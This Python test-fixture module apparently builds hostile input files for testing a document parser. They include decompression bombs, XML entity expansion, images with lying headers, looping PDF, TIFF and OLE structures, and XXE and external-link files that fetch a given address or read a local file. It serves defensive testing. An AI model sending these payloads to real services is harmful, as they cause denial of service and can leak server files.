"""Files of every class that cost time, memory, disk or a crash somewhere, made here; all are small on the wire.

:data:`HOSTILE_FILES` names them. Sizes are such that a reader without limits would need minutes, gigabytes or for ever.
``follow`` in :func:`tempting_files` is an address that no reader may ever ask.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import py7zr
from openpyxl import Workbook
from PIL import Image, TiffImagePlugin

from tests import hostile_mails as mails
from tests.hostile_mails import MEGABYTE, pdf, png, zipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
PROBE = Path(__file__).parent / "parts" / "probe.doc"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def document(body: str) -> bytes:
    """A Word document with that XML as its body."""
    return mails.paper_of_xml(f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>')


def workbook(sheet: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    """A spreadsheet whose only sheet is that XML; with more members, or others instead."""
    out = io.BytesIO()
    Workbook().save(out)
    with zipfile.ZipFile(out) as honest:
        files = {name: honest.read(name) for name in honest.namelist()}
    if sheet:
        files["xl/worksheets/sheet1.xml"] = f'<worksheet xmlns="{S}">{sheet}</worksheet>'.encode()
    return zipped({**files, **(more or {})})


def page_pdf(content: bytes, resources: bytes = b"", *more: bytes) -> bytes:
    """A PDF of one page that draws ``content``; ``more`` objects begin with number 5."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>>>" % resources
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream(content), *more)


def stream(content: bytes, head: bytes = b"") -> bytes:
    """A PDF stream, packed."""
    packed = zlib.compress(content, 9)
    return b"<<%s/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (head, len(packed), packed)


def zeros(count: int) -> Iterator[bytes]:
    """So many zeros, a megabyte at a time."""
    for start in range(0, count, MEGABYTE):
        yield bytes(min(MEGABYTE, count - start))


def _quadratic_blowup() -> bytes:
    """One long entity, named often: no nesting that a counter would notice."""
    return mails.with_entities(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 100_000)


def _flat_zip_bomb() -> bytes:
    return zipped({"0.txt": bytes(100 * MEGABYTE)})


def _lying_zip() -> bytes:
    """A member that says it is ten octets long and unpacks to 100 MB."""
    content = zipped({"a.txt": bytes(100 * MEGABYTE)})
    return content.replace(struct.pack("<I", 100 * MEGABYTE), struct.pack("<I", 10))


def _crowded_zip() -> bytes:
    """Sixty thousand empty members, each with a long name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(60_000):
            archive.writestr(f"{'目录/' * 20}{number}.txt", b"")
    return out.getvalue()


def _gzip_bomb() -> bytes:
    """A hundred megabytes of zeros in 130 KB."""
    out = io.BytesIO()
    with gzip.open(out, "wb") as pack:
        for chunk in zeros(128 * MEGABYTE):
            pack.write(chunk)
    return out.getvalue()


def _bzip2_bomb() -> bytes:
    return bz2.compress(bytes(45 * MEGABYTE)) * 30


def _xz_bomb() -> bytes:
    """A hundred megabytes of zeros."""
    return lzma.compress(bytes(100 * MEGABYTE), preset=0)


def _xz_dictionary() -> bytes:
    """A header that asks for a dictionary of 4 GB."""
    plain = lzma.compress(b"x" * 1000, preset=0)
    return plain[:15] + b"\x28" + plain[16:]


def _sparse_tar() -> bytes:
    """A sparse member of a terabyte (GNU), and one that only says that it is so large."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, kind in (("sparse", tarfile.GNUTYPE_SPARSE), ("large", tarfile.REGTYPE)):
            info = tarfile.TarInfo(name)
            info.type, info.size = kind, 1024**4
            archive.addfile(info)
    return out.getvalue()


def _solid_7z_bomb() -> bytes:
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", filters=[{"id": py7zr.FILTER_LZMA2, "preset": 0}]) as archive:
        for number in range(8):
            archive.writestr(bytes(20 * MEGABYTE), f"{number}.txt")
    return out.getvalue()


def _quine_gzip_chain() -> bytes:
    """gzip in gzip in gzip …"""
    content = b"core"
    for _ in range(200):
        content = gzip.compress(content)
    return content


def _paragraphs() -> bytes:
    return document("<w:p><w:r><w:t>演练</w:t></w:r></w:p>" * 1_000_000)


def _nested_tables() -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return document(opened * 3000 + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" + closed * 3000)


def _deep_xml() -> bytes:
    return document("<w:sdt><w:sdtContent>" * 200_000)


def _wide_table() -> bytes:
    return document(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 300_000}</w:tr></w:tbl>")


def _many_attributes() -> bytes:
    """Thousands of attributes on each element."""
    attributes = " ".join(f'a{number}=""' for number in range(5000))
    return document(f"<w:p {attributes}/>" * 300)


def _million_rows() -> bytes:
    """Cells in the first and in the last corner: a grid of 1,048,576 × 16,384."""
    first, last = '<row r="1"><c r="A1"><v>1</v></c></row>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return workbook(f"<sheetData>{first}{last}</sheetData>")


def _shared_strings() -> bytes:
    """One string of 100 KB, shown in 20,000 cells: 2 GB of text."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 20_001))
    strings = f'<sst xmlns="{S}" count="1" uniqueCount="1"><si><t>{"字" * 100_000}</t></si></sst>'.encode()
    content = workbook(f"<sheetData>{rows}</sheetData>")
    with zipfile.ZipFile(io.BytesIO(content)) as honest:
        relations = honest.read("xl/_rels/workbook.xml.rels").decode()
        types = honest.read("[Content_Types].xml").decode()
        files = {name: honest.read(name) for name in honest.namelist()}
    relation = f'<Relationship Id="rIdS" Type="{R}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    kind = (
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sharedStrings+xml"/></Types>'
    )
    files["xl/_rels/workbook.xml.rels"] = relations.replace("</Relationships>", relation).encode()
    files["[Content_Types].xml"] = types.replace("</Types>", kind).encode()
    return zipped({**files, "xl/sharedStrings.xml": strings})


def _repeated_ods() -> bytes:
    """An OpenDocument sheet of one cell, repeated a thousand million times."""
    space = "urn:oasis:names:tc:opendocument:xmlns"
    sheet = (
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell>'
        "</table:table-row></table:table>"
    )
    content = (
        f'<office:document-content xmlns:office="{space}:office:1.0" xmlns:table="{space}:table:1.0" '
        f'xmlns:text="{space}:text:1.0"><office:body><office:spreadsheet>{sheet}</office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        b'manifest:full-path="/" manifest:media-type="%s"/></manifest:manifest>' % kind
    )
    return zipped({"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content.encode()})


def _spaced_odt() -> bytes:
    """A space that is repeated a thousand million times, and spans in spans."""
    space = "urn:oasis:names:tc:opendocument:xmlns"
    spans = "<text:span>" * 5000 + '<text:s text:c="1000000000"/>' + "</text:span>" * 5000
    content = (
        f'<office:document-content xmlns:office="{space}:office:1.0" xmlns:text="{space}:text:1.0"><office:body>'
        f"<office:text><text:p>x{spans}</text:p></office:text></office:body></office:document-content>"
    )
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def _huge_png() -> bytes:
    return png(20_000, 20_000)


def _lying_png() -> bytes:
    """2³¹ × 2³¹ pixels by its header, and hardly an octet of them."""
    header = struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        mails.png_chunk(name, content) for name, content in ((b"IHDR", header), (b"IDAT", b"x"), (b"IEND", b""))
    )


def _png_texts() -> bytes:
    """Compressed text and a colour profile that unpack to hundreds of megabytes, in a picture of one pixel."""
    bomb = zlib.compress(bytes(100 * MEGABYTE), 9)
    plain = png(1, 1)
    chunks = mails.png_chunk(b"iCCP", b"icc\0\0" + bomb) + mails.png_chunk(b"zTXt", b"k\0\0" + bomb)
    return plain[:33] + chunks + plain[33:]


def _gif_frames() -> bytes:
    """A hundred thousand frames of one pixel, each on a canvas of 65,535 × 65,535."""
    head = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x21\xf9\x04\x04\0\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * 100_000 + b";"


def _small_gif_frames() -> bytes:
    """A hundred thousand frames on a canvas that is not too large."""
    return _gif_frames().replace(struct.pack("<HH", 65535, 65535), struct.pack("<HH", 1000, 1000), 1)


def _tiff_loop() -> bytes:
    """A directory whose next directory is itself."""
    entries = ((256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200))
    more = ((277, 3, 1, 1), (278, 3, 1, 8), (279, 4, 1, 64))
    table = b"".join(struct.pack("<HHII", *entry) for entry in (*entries, *more))
    directory = struct.pack("<H", len(entries) + len(more)) + table + struct.pack("<I", 8)
    return (b"II*\0" + struct.pack("<I", 8) + directory).ljust(200, b"\0") + bytes(64)


def _tiff_pages() -> bytes:
    """Sixty pages of 4000 × 4000 pixels of one bit."""
    page = Image.new("1", (4000, 4000))
    out = io.BytesIO()
    with TiffImagePlugin.AppendingTiffWriter(out, new=True) as tiff:
        for _ in range(60):
            page.save(tiff, "TIFF", compression="group4")
            tiff.newFrame()
    return out.getvalue()


def _tiff_strips() -> bytes:
    """Numbers of strips and octets far beyond the file."""
    entries = ((256, 4, 1, 10_000), (257, 4, 1, 10_000), (258, 3, 1, 8), (259, 3, 1, 5), (262, 3, 1, 1))
    more = ((273, 4, 2**31 - 1, 8), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, 2**31 - 1, 8))
    table = b"".join(struct.pack("<HHII", *entry) for entry in (*entries, *more))
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 9) + table + bytes(4)


def _webp_bomb() -> bytes:
    """A lossless picture of 16,383 × 16,383 pixels, all of one colour (RFC 9649 §3.4)."""
    size = struct.pack("<I", 16_382 | 16_382 << 14)
    return _webp(b"VP8L", b"\x2f" + size + bytes(15))


def _webp(name: bytes, content: bytes) -> bytes:
    chunk = name + struct.pack("<I", len(content)) + content
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


def _lying_webp() -> bytes:
    """An extended header of 16,777,216 × 16,777,216."""
    return _webp(b"VP8X", b"\x10\0\0\0" + b"\xff" * 6)


def _box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def _lying_heic() -> bytes:
    """A picture of 2³² × 2³² by its properties, with 65,535 items of which each stands for the next."""
    head = _box(b"ftyp", b"heic\0\0\0\0mif1heic")
    size = _box(b"ispe", struct.pack(">III", 0, 2**32 - 1, 2**32 - 1))
    properties = _box(b"iprp", _box(b"ipco", size * 1000) + _box(b"ipma", struct.pack(">II", 0, 2**32 - 1)))
    handler = _box(b"hdlr", bytes(8) + b"pict" + bytes(13))
    items = _box(b"iinf", struct.pack(">IH", 0, 65535))
    places = _box(b"iloc", struct.pack(">IBBH", 0, 0x44, 0, 65535))
    return head + _box(b"meta", bytes(4) + handler + items + places + properties)


def _nested_mp4() -> bytes:
    """Boxes in boxes, and one that says it is 2⁶³ octets long."""
    content = b""
    for _ in range(10_000):
        content = _box(b"moov", content)
    return _box(b"ftyp", b"mp42\0\0\0\0mp42isom") + content + struct.pack(">I4sQ", 1, b"mdat", 2**63)


def _bmp_bomb() -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + head


def _looping_outline() -> bytes:
    """Bookmarks, form fields and an array that lead to themselves."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R/AcroForm<</Fields[5 0 R]>>/Names<</EmbeddedFiles 6 0 R>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[7 0 R]>>",
        b"<</First 4 0 R/Last 4 0 R/Next 4 0 R/Title(a)>>",
        b"<</T(a)/Kids[5 0 R]/Parent 5 0 R>>",
        b"<</Kids[6 0 R]/Names[(a) 6 0 R]>>",
        b"<</Subtype/Widget/Parent 7 0 R/Kids[7 0 R]/Rect[0 0 9 9]/FT/Tx>>",
    )


def _looping_lengths() -> bytes:
    """A stream whose length is the stream itself, a filter chain that unpacks itself, an object that is itself."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox 5 0 R/Contents 4 0 R>>",
        b"<</Length 4 0 R/Filter[" + b"/FlateDecode" * 1000 + b"]>>\nstream\nx\nendstream",
        b"5 0 R",
    )


def _recursive_forms() -> bytes:
    """A form that draws itself, twice."""
    form = stream(b"/A Do /A Do", FORM + b"/Resources<</XObject<</A 5 0 R>>>>")
    return page_pdf(b"/A Do " * 100, b"/XObject<</A 5 0 R>>", form)


def _form_tree() -> bytes:
    """Forms that each draw the next ten times: ten to the power of twelve."""
    next_form = b"/Resources<</XObject<</A %d 0 R>>>>"
    forms = [stream(b"/A Do " * 10, FORM + next_form % (number + 1)) for number in range(5, 17)]
    return page_pdf(b"/A Do", b"/XObject<</A 5 0 R>>", *forms, stream(b"0 0 m 9 9 l S", FORM))


def _letters_pdf() -> bytes:
    """Two million letters on one page."""
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    line = b"(" + b"a" * 200 + b") Tj 0 -1 Td "
    return page_pdf(b"BT /F 1 Tf 0 800 Td " + line * 10_000 + b"ET", b"/Font<</F 5 0 R>>", font)


def _lines_pdf() -> bytes:
    """A hundred thousand crossing lines, for whoever looks for tables."""
    upright = b"".join(b"%d 0 m %d 842 l S " % (n % 595, n % 595) for n in range(50_000))
    level = b"".join(b"0 %d m 595 %d l S " % (n % 842, n % 842) for n in range(50_000))
    return page_pdf(upright + level)


def _unpacking_pdf() -> bytes:
    """A page's content that unpacks to 200 MB."""
    pack = zlib.compressobj(9)
    packed = b"".join(pack.compress(b"q Q " * (MEGABYTE // 4)) for _ in range(200)) + pack.flush()
    content = b"<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        content,
    )


def _picture_pdf() -> bytes:
    """A picture of 60,000 × 60,000 pixels on a page."""
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8"
    return page_pdf(b"500 0 0 800 0 0 cm /I Do", b"/XObject<</I 5 0 R>>", stream(bytes(50 * MEGABYTE), head))


def _empty_pages_pdf() -> bytes:
    """A hundred thousand pages, all the same object."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 100000/Kids[" + b"3 0 R " * 100_000 + b"]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def _font_pdf() -> bytes:
    """A font program of garbage, a map of characters that lists millions, widths without end."""
    cmap = (
        b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange "
        + b"100 beginbfrange "
        + (b"<0000> <FFFF> <0000> " * 3000)
        + b"endbfrange endcmap"
    )
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts[<</Type/Font"
        b"/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<<>>/W[0 999999999 500]/FontDescriptor"
        b"<</Type/FontDescriptor/FontName/A/FontFile2 7 0 R>>>>]>>"
    )
    program = b"\0\1\0\0" + struct.pack(">HHHH", 65535, 65535, 65535, 65535) + bytes(range(256)) * 4000
    return page_pdf(
        b"BT /F 12 Tf 50 700 Td <00410042> Tj ET", b"/Font<</F 5 0 R>>", font, stream(cmap), stream(program)
    )


def _ole_loop() -> bytes:
    """A compound file whose chains of sectors lead back to themselves ([MS-CFB] §2.3)."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 1, 1, 0xFFFFFFFE, 0) + struct.pack("<I", 0)
    head = head.ljust(512, b"\xff")
    table = struct.pack("<I", 0xFFFFFFFD) + struct.pack("<I", 1) + struct.pack("<I", 2) * 126
    root = _entry("Root Entry", 5, child=1, start=1, size=2**31)
    word = _entry("WordDocument", 2, child=0xFFFFFFFF, start=2, size=2**31, left=1, right=1)
    return head + table + (root + word + bytes(256)) + b"\xec\xa5" * 256


def _entry(name: str, kind: int, child: int, start: int, size: int, left: int = -1, right: int = -1) -> bytes:
    octets = name.encode("utf-16-le") + b"\0\0"
    body = octets.ljust(64, b"\0") + struct.pack("<HBB", len(octets), kind, 1)
    body += struct.pack("<III", left & 0xFFFFFFFF, right & 0xFFFFFFFF, child) + bytes(36)
    return body + struct.pack("<IQ", start, size)


def _many_doc_pieces() -> bytes:
    """A real Word 97 file whose table of pieces and stories are said to be endless ([MS-DOC] §2.5.1)."""
    content = bytearray(PROBE.read_bytes())
    place = content.find(b"\xec\xa5\xc1\x00")
    struct.pack_into("<II", content, place + 0x01A2, 0, 2**31 - 1)
    struct.pack_into("<8I", content, place + 0x4C, *([2**31 - 1] * 8))
    return bytes(content)


def _rtf_groups() -> bytes:
    return b"{\\rtf1 " + b"{" * 1_000_000 + b"x" + b"}" * 1_000_000 + b"}"


def _rtf_words() -> bytes:
    """Code pages and characters that there are not."""
    return (
        b"{\\rtf1\\ansicpg99999 \\u-10179?\\u55357?\\u4294967296?\\uc2000000000 \\'zz" + b"\\u56832 ?" * 200_000 + b"x}"
    )


def _nested_html() -> bytes:
    return b"<html><body>" + b"<div>" * 1_000_000 + b"x"


def _nested_html_tables() -> bytes:
    return b"<html><body>" + b"<table><tr><td>x" * 20_000


def _html_spans() -> bytes:
    """One cell that spans a thousand million others."""
    return b"<html><table>" + b"<tr><td rowspan=65534 colspan=1000>x</td></tr>" * 2000 + b"</table></html>"


def _long_line_csv() -> bytes:
    return b"a," * (25 * MEGABYTE)


def _open_quote_csv() -> bytes:
    return b'"' + b'a""' * (8 * MEGABYTE)


def _wide_csv() -> bytes:
    return ("," * 5000 + "\n").encode() * 2000


def _combining() -> bytes:
    return ("演" + "\u0301" * 5_000_000).encode()


def _bidi() -> bytes:
    return ("\u202e\u2066\u202a" * 1_000_000 + "总结").encode()


def _long_text() -> bytes:
    return "青山区人民医院组织开展消防疏散演练，共有45人参加。".encode() * 600_000


def _eml_chain() -> bytes:
    return mails.attached_messages(500)


def _eml_tree() -> bytes:
    """Messages that each hold the next one eight times, five deep."""
    head = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\n"
    content = head + b"\r\nx\r\n"
    for depth in range(5):
        part = b"--b%d\r\nContent-Type: message/rfc822\r\n\r\n" % depth + content
        multipart = b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n" % depth
        content = head + multipart + part * 8 + b"--b%d--\r\n" % depth
    return content


def _tnef_bomb() -> bytes:
    """An attribute of 4 GB in a winmail.dat of some octets, and compressed RTF that says it is as large."""
    rtf = struct.pack("<IIII", 30, 0xFFFFFFFF, 0x75465A4C, 0) + bytes(14)
    return struct.pack("<IH", 0x223E9F78, 1) + struct.pack("<BII", 1, 0x00069003, 0xFFFFFFFF) + rtf


def _ofd_loop() -> bytes:
    """A document whose pages lead to themselves, one page 200,000 times."""
    space = "http://www.ofdspec.org/2016"
    root = f'<OFD xmlns="{space}"><DocBody><DocRoot>Doc.xml</DocRoot></DocBody></OFD>'
    pages = '<Page ID="1" BaseLoc="Doc.xml"/>' * 200_000
    return zipped(
        {"OFD.xml": root.encode(), "Doc.xml": f'<Document xmlns="{space}"><Pages>{pages}</Pages></Document>'.encode()}
    )


def _pptx_slides() -> bytes:
    """A presentation of 100,000 slides, all the same file."""
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    slides = "".join(f'<p:sldId id="{n}" r:id="r1"/>' for n in range(100_000))
    show = f'<p:presentation xmlns:p="{p}" xmlns:r="{R}"><p:sldIdLst>{slides}</p:sldIdLst></p:presentation>'
    relation = f'<Relationship Id="r1" Type="{R}/slide" Target="slides/a.xml"/>'
    relations = f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    slide = f'<p:sld xmlns:p="{p}" xmlns:a="{a}"><a:p><a:r><a:t>{"演练" * 5000}</a:t></a:r></a:p></p:sld>'
    return zipped(
        {
            "[Content_Types].xml": b"<Types/>",
            "ppt/presentation.xml": show.encode(),
            "ppt/_rels/presentation.xml.rels": relations.encode(),
            "ppt/slides/a.xml": slide.encode(),
        }
    )


HOSTILE_FILES: dict[str, Callable[[], bytes]] = {
    "laughs.docx": mails.entity_bomb,
    "quadratic.docx": _quadratic_blowup,
    "paragraphs.docx": _paragraphs,
    "nested-tables.docx": _nested_tables,
    "deep.docx": _deep_xml,
    "wide-table.docx": _wide_table,
    "attributes.docx": _many_attributes,
    "million-rows.xlsx": _million_rows,
    "shared-strings.xlsx": _shared_strings,
    "repeated.ods": _repeated_ods,
    "spaces.odt": _spaced_odt,
    "slides.pptx": _pptx_slides,
    "loop.ofd": _ofd_loop,
    "flat.zip": _flat_zip_bomb,
    "lying.zip": _lying_zip,
    "crowded.zip": _crowded_zip,
    "nested.zip": mails.nested_bomb,
    "overlapping.zip": mails.overlapping_bomb,
    "bomb.gz": _gzip_bomb,
    "bomb.bz2": _bzip2_bomb,
    "bomb.xz": _xz_bomb,
    "dictionary.xz": _xz_dictionary,
    "chain.gz": _quine_gzip_chain,
    "sparse.tar": _sparse_tar,
    "solid.7z": _solid_7z_bomb,
    "huge.png": _huge_png,
    "lying.png": _lying_png,
    "texts.png": _png_texts,
    "frames.gif": _gif_frames,
    "small-frames.gif": _small_gif_frames,
    "loop.tif": _tiff_loop,
    "pages.tif": _tiff_pages,
    "strips.tif": _tiff_strips,
    "bomb.webp": _webp_bomb,
    "lying.webp": _lying_webp,
    "lying.heic": _lying_heic,
    "bomb.bmp": _bmp_bomb,
    "nested.mp4": _nested_mp4,
    "loop.pdf": mails.looping_pdf,
    "endless.pdf": mails.endless_page_pdf,
    "outline.pdf": _looping_outline,
    "lengths.pdf": _looping_lengths,
    "forms.pdf": _recursive_forms,
    "form-tree.pdf": _form_tree,
    "letters.pdf": _letters_pdf,
    "lines.pdf": _lines_pdf,
    "unpacking.pdf": _unpacking_pdf,
    "picture.pdf": _picture_pdf,
    "pages.pdf": _empty_pages_pdf,
    "font.pdf": _font_pdf,
    "loop.doc": _ole_loop,
    "pieces.doc": _many_doc_pieces,
    "groups.rtf": _rtf_groups,
    "words.rtf": _rtf_words,
    "nested.html": _nested_html,
    "nested-tables.html": _nested_html_tables,
    "spans.html": _html_spans,
    "line.csv": _long_line_csv,
    "quote.csv": _open_quote_csv,
    "wide.csv": _wide_csv,
    "combining.txt": _combining,
    "bidi.txt": _bidi,
    "long.txt": _long_text,
    "chain.eml": _eml_chain,
    "tree.eml": _eml_tree,
    "winmail.dat": _tnef_bomb,
}


def tempting_files(follow: str, file: str) -> dict[str, bytes]:
    """Files that ask their reader for an address, or for a file of this machine."""
    entity = f'<!ENTITY x SYSTEM "{follow}/entity"><!ENTITY % y SYSTEM "{follow}/dtd"> %y;'
    relations = "".join(
        f'<Relationship Id="r{kind}" Type="{R}/{kind}" Target="{follow}/{kind}" TargetMode="External"/>'
        for kind in ("attachedTemplate", "image", "hyperlink", "subDocument", "oleObject", "frame")
    )
    linked = zipfile.ZipFile(io.BytesIO(document(f'<w:p xmlns:r="{R}"><w:subDoc r:id="rsubDocument"/></w:p>')))
    members = {name: linked.read(name) for name in linked.namelist()}
    old = members["word/_rels/document.xml.rels"].decode()
    members["word/_rels/document.xml.rels"] = old.replace("</Relationships>", f"{relations}</Relationships>").encode()
    link = f"<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI({follow}/uri)>>>>".encode()
    action = f"<</S/SubmitForm/F({follow}/form)>>".encode()
    return {
        "entity.docx": mails.with_entities(entity, "&x;"),
        "file.docx": mails.with_entities(f'<!ENTITY x SYSTEM "{file}">', "&x;"),
        "linked.docx": zipped(members),
        "page.html": (
            f'<html><head><base href="{follow}/"><link rel=stylesheet href="{follow}/a.css">'
            f'<script src="{follow}/a.js"></script></head><body><img src="{follow}/a.png"><iframe src="{follow}/a">'
            f'</iframe><object data="{file}">x</object></body></html>'
        ).encode(),
        "picture.svg": (
            f'<!DOCTYPE svg [{entity}]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<image xlink:href="{follow}/a.png"/><use href="{file}"/><text>&x;</text></svg>'
        ).encode(),
        "paper.rtf": (
            f'{{\\rtf1 x {{\\field{{\\*\\fldinst INCLUDEPICTURE "{follow}/a.png"}}{{\\fldrslt y}}}}'
            f"{{\\*\\template {follow}/t.dot}}}}"
        ).encode(),
        "paper.pdf": pdf(
            b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (action, action),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[%s]/AA<</O %s>>>>" % (link, action),
        ),
        "book.xlsx": workbook(more={"xl/externalLinks/externalLink1.xml": entity.encode()}),
        "loop.ofd": zipped({"OFD.xml": f"<!DOCTYPE x [{entity}]><OFD>&x;</OFD>".encode()}),
        "message.eml": (
            "From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nContent-Type: message/external-body; "
            f'access-type=URL; URL="{follow}/body"\r\n\r\nContent-Type: text/plain\r\n\r\n'
        ).encode(),
    }
